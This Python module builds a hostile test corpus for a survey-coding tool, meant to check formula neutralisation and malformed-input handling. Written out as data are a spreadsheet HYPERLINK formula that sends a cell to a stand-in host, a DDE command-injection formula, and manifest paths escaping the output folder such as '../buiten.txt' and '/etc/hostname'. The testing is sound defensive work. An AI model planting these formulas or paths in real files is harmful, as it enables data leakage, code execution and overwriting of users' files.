"""The hostile corpus of issue 15a (outputs and odd input), generated, never committed.

:func:`cases` lists every case as a :class:`Case`: its category, its name, how to build its
file in a folder, and which commands to run over it (see ``test_outputs_corpus.py``). The
texts around the attacks are real Dutch answers of the kind the sample survey holds.

Categories:

- ``formulas``: ids, answers, attributes and codebook labels a spreadsheet would run;
- ``readback``: characters outputs must hold or replace visibly (control characters, CR/LF,
  quotes, delimiters, NUL, lone surrogates, right-to-left marks, emoji, very long cells);
- ``odd-input``: legal input textcode used to refuse or crash on (nested JSON fields, very long
  CSV fields, formula cells without values, UTF-16/32 without a byte-order mark);
- ``broken-input``: input that is wrong and must get a one-line error naming the file;
- ``folders``: output folders shared by commands or holding a hostile manifest;
- ``ledger``: hand-edited review ledgers.

Signals (SIGTERM, SIGHUP) and the report at scale are tested in ``test_outputs_signals.py``
and ``benchmarks/bench_report_scale.py``.
"""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pandas as pd

HYPERLINK = '=HYPERLINK("http://x.nl/?x="&A1,"klik")'
DUTCH = [
    "Meer kennis over de AVG en over wetgeving rond data delen",
    "Er was te weinig budget en geen tijd voor innovatie",
    "Gebrek aan draagvlak bij de top; bestuurders laten ideeën omarmen",
    "Samenwerking met ketenpartners en een goede projectleider",
    "Financiering bleef lastig, maar de ambitie was groot",
]
# Commands a case can be run through (see test_outputs_corpus.py).
ALL_OUTPUTS = (
    "code-jsonl",
    "code-csv",
    "report-by",
    "redact-csv",
    "redact-xlsx",
    "export-excel",
    "kwic",
)


@dataclass(frozen=True)
class Case:
    """One hostile case: ``build(folder)`` writes its input and returns the file's path."""

    category: str
    name: str
    build: Callable[[Path], Path]
    commands: tuple[str, ...]
    expect: str = "ok"  # "ok": exit 0 and outputs that read back; "error": exit 2, one line
    attacks: int = 1  # how many attacks the file holds (one per row for some)
    warning: str = ""  # what the first command must warn (in its stderr), if anything


def _csv(rows: list[tuple[str, str, str]], name: str = "antwoorden.csv") -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        path = folder / name
        # CRLF rows, as Excel writes them: the csv module then quotes a field holding a CR.
        with path.open("w", encoding="utf-8", newline="") as handle:
            writer = csv.writer(handle, lineterminator="\r\n")
            writer.writerow(["id", "belemmering", "organisatie"])
            writer.writerows(rows)
        return path

    return build


def _jsonl(records: list[dict[str, object]], raw: bool = False) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        path = folder / "antwoorden.jsonl"
        lines = [json.dumps(r, ensure_ascii=False) for r in records]
        text = "\n".join(lines) + "\n"
        if raw:  # "\\ud800" in the dumped text becomes the escape \ud800 in the file
            text = text.replace("\\\\u", "\\u")
        path.write_text(text, encoding="utf-8")
        return path

    return build


def _bytes(data: bytes, name: str = "antwoorden.csv") -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(data)
        return path

    return build


def _rows(*attacks: str, where: str = "belemmering") -> list[tuple[str, str, str]]:
    rows = []
    for n, attack in enumerate(attacks):
        text = DUTCH[n % len(DUTCH)]
        if where == "id":
            rows.append((attack, text, "gemeente"))
        elif where == "organisatie":
            rows.append((f"r{n + 1}", text, attack))
        else:
            rows.append((f"r{n + 1}", f"{attack} {text}" if attack else text, "gemeente"))
    rows.append((f"r{len(attacks) + 1}", DUTCH[-1], "provincie"))
    return rows


def _everywhere(attacks: list[str], *, ids: bool = True) -> list[tuple[str, str, str]]:
    """One row per attack: in the id (``ids``; numbered, since an id is stripped of spaces and
    must be unique), at the start of a real answer, as an attribute."""
    rows = [
        (f"{attack}{n}" if ids else f"r{n}", f"{attack} {DUTCH[n % len(DUTCH)]}", attack)
        for n, attack in enumerate(attacks, start=1)
    ]
    return [*rows, ("r0", DUTCH[1], "gemeente")]


def _xlsx_formulas(folder: Path) -> Path:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["id", "belemmering", "organisatie"])
    sheet.append(["r1", DUTCH[1], "=1+1"])
    sheet.append(["r2", '=A2&" en budget"', "gemeente"])
    sheet.append(["r3", DUTCH[2], "provincie"])
    path = folder / "formules.xlsx"
    book.save(path)
    return path


def _encoded(codec: str) -> Callable[[Path], Path]:
    rows = _rows("", "", "")
    text = pd.DataFrame(rows, columns=["id", "belemmering", "organisatie"]).to_csv(index=False)
    return _bytes(text.encode(codec), f"unicode_{codec}.csv")


def _ledger(*lines: dict[str, object] | str) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        path = folder / "besluiten.jsonl"
        text = "".join((x if isinstance(x, str) else json.dumps(x)) + "\n" for x in lines)
        path.write_text(text, encoding="utf-8")
        return path

    return build


def _entry(entry_id: str, **changes: object) -> dict[str, object]:
    entry: dict[str, object] = {
        "entry_id": entry_id,
        "suggestion_id": "s1",
        "response_id": "r1",
        "question": "belemmering",
        "code": "belemmering.financiering",
        "decision": "accept",
        "reviewer": "anna",
        "time": "2024-05-01T09:30:00.000Z",
        "codebook_version": "",
        "comment": "",
        "machine": None,
        "retracts": None,
    }
    entry.update(changes)
    return entry


def _manifest(content: str) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        out = folder / "uit"
        out.mkdir()
        (out / ".textcode-outputs.json").write_text(content, encoding="utf-8")
        (folder / "buiten.txt").write_text("niet van textcode", encoding="utf-8")
        (out / "mijn_notities.txt").write_text("van de onderzoeker", encoding="utf-8")
        return _csv(_rows("", ""))(folder)

    return build


def cases() -> list[Case]:
    """Every hostile case of this corpus."""
    out: list[Case] = []

    def add(
        category: str, name: str, build: Callable[[Path], Path], *commands: str, **kw: object
    ) -> None:
        out.append(Case(category, name, build, commands, **kw))  # type: ignore[arg-type]

    # --- formulas: every attack a row, in the id, the answer and an attribute ----------
    formulas = [
        HYPERLINK,
        "=SUM(1+1)*cmd|' /C calc'!A0",
        "+31 6 12345678",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "=1+1",
    ]
    add("formulas", "everywhere", _csv(_everywhere(formulas)), *ALL_OUTPUTS,
        attacks=3 * len(formulas))  # fmt: skip
    add("formulas", "in-codebook-label", _csv(_rows("Te weinig budget", "")), "report-label")
    # --- readback: every attack a row, in the answer and an attribute -----------------
    hostile = [
        "\x00\x01\x0b\x1f\x7f",
        "regel een\rregel twee",
        "regel een\r\nregel twee\nregel drie",
        'zei "nee", toch; of | niet\t?',
        "\u202egnireifnaf\u202c \u200f😀 ✓",
        "_x0041_ en _x000D_",
        "een\u2028twee\x85drie\x1cvier",
        "  spaties rondom  ",
    ]
    add("readback", "everywhere", _csv(_everywhere(hostile, ids=False)), *ALL_OUTPUTS,
        "redact-jsonl", attacks=2 * len(hostile))  # fmt: skip
    # 32,880 characters: just past Excel's 32,767 a cell (longer only costs coding time), of
    # words no rule looks for: one suggestion, not thousands, each with the long answer.
    add("readback", "cell-past-excel-limit",
        _csv(_rows("We hebben het daar in het team vaak over gehad. " * 685)),
        "redact-xlsx", "code-jsonl", "export-excel")  # fmt: skip
    add("readback", "lone-surrogate-json",
        _jsonl([{"id": "r1", "belemmering": "Te weinig \\ud800 budget"},
                {"id": "r2", "belemmering": DUTCH[0]}], raw=True),
        "code-jsonl", "code-csv", "redact-jsonl", "redact-xlsx", "report",
        warning="lone surrogate")  # fmt: skip
    # --- odd input ----------------------------------------------------------------------
    add("odd-input", "jsonl-list-and-object",
        _jsonl([{"id": f"r{n}", "belemmering": t, "tags": ["a", n], "meta": {"n": n}}
                for n, t in enumerate(DUTCH)]),
        "code-jsonl", "report", "redact-csv", "redact-xlsx", "export-excel",
        "export-project", attacks=2)  # fmt: skip
    long_answer = ("Er was te weinig budget en geen tijd voor innovatie. " * 20_500)[:1_048_576]
    add("odd-input", "csv-field-1mb", _csv([("r1", long_answer, "gemeente"), *_rows("")]),
        "redact-csv")  # fmt: skip
    add("odd-input", "xlsx-formula-without-value", _xlsx_formulas, "code-jsonl", "redact-xlsx",
        warning="2 formula cells hold no saved value and read as empty: C2, B3")  # fmt: skip
    for codec in ("utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be", "utf-32"):
        first = ("code-jsonl",) if codec == "utf-16-le" else ()
        add("odd-input", f"csv-{codec}", _encoded(codec), *first, "redact-csv")
    add("odd-input", "sep-line-and-bom",
        _bytes(("\ufeffsep=;\nid;belemmering\nr1;" + DUTCH[1] + "\n").encode()),
        "code-jsonl", "redact-csv")  # fmt: skip
    # --- broken input -------------------------------------------------------------------
    add("broken-input", "unclosed-quote-past-limit",
        _bytes(b'id,belemmering\nr1,"Geen budget\n' + b"en geen tijd " * 160_000),
        "code-jsonl", "redact-csv", expect="error")  # fmt: skip
    add("broken-input", "nul-garbage",
        _bytes(b"id,belemmering\n" + bytes([0, 0, 65, 0, 0, 0, 66, 200]) * 300),
        "code-jsonl", "redact-csv", expect="error")  # fmt: skip
    add("broken-input", "list-as-answer",
        _jsonl([{"id": "r1", "belemmering": ["budget", "tijd"]}]),
        "code-jsonl", "report", expect="error")  # fmt: skip
    add("broken-input", "answer-past-limit",
        _jsonl([{"id": "r1", "belemmering": "budget " * 300_000}]),
        "code-jsonl", expect="error")  # fmt: skip
    # --- folders ------------------------------------------------------------------------
    add("folders", "report-then-themes", _csv(_rows("", "", "", "", "")), "shared-folder")
    for name, content in [
        ("manifest-outside", '{"files": {"../buiten.txt": "report", "/etc/hostname": "report"}}'),
        ("manifest-old-list", '{"files": ["../buiten.txt", "mijn_notities.txt"]}'),
        ("manifest-garbage", "{niet json"),
        ("manifest-wrong-shape", '{"files": 12}'),
        ("manifest-folder-entry", '{"files": {".": "report", "tabellen": "report"}}'),
    ]:
        add("folders", name, _manifest(content), "output-folder-uit")
    add("folders", "out-is-a-file", _csv(_rows("")), "report-out-file", expect="error")
    # --- ledger -------------------------------------------------------------------------
    for name, lines in [
        ("time-not-a-time", [_entry("e1"), _entry("e2", time="gisteren")]),
        ("time-impossible", [_entry("e1", time="2024-02-30T10:00:00Z")]),
        ("time-missing", [_entry("e1", time=None)]),
        ("retract-unknown", [_entry("e1"), _entry("e2", decision="retract", retracts="x")]),
        ("retract-a-retract", [_entry("e1"), _entry("e2", decision="retract", retracts="e1"),
                               _entry("e3", decision="retract", retracts="e2")]),
        ("retract-later-entry", [_entry("e1", decision="retract", retracts="e2"), _entry("e2")]),
        ("duplicate-entry-id", [_entry("e1"), _entry("e1", suggestion_id="s2")]),
        ("not-json", [_entry("e1"), "{dit is geen json"]),
        ("not-an-object", [_entry("e1"), "[1, 2, 3]"]),
        ("wrong-types", [_entry("e1", reviewer=7)]),
        ("unknown-decision", [_entry("e1", decision="misschien")]),
        ("bad-machine", [_entry("e1", machine={"rule": "x"})]),
    ]:  # fmt: skip
        add("ledger", name, _ledger(*lines), "ledger", expect="error")
    torn = _bytes(json.dumps(_entry("e1")).encode()[:40], "besluiten.jsonl")
    add("ledger", "torn-last-line", torn, "ledger", expect="error")
    return out
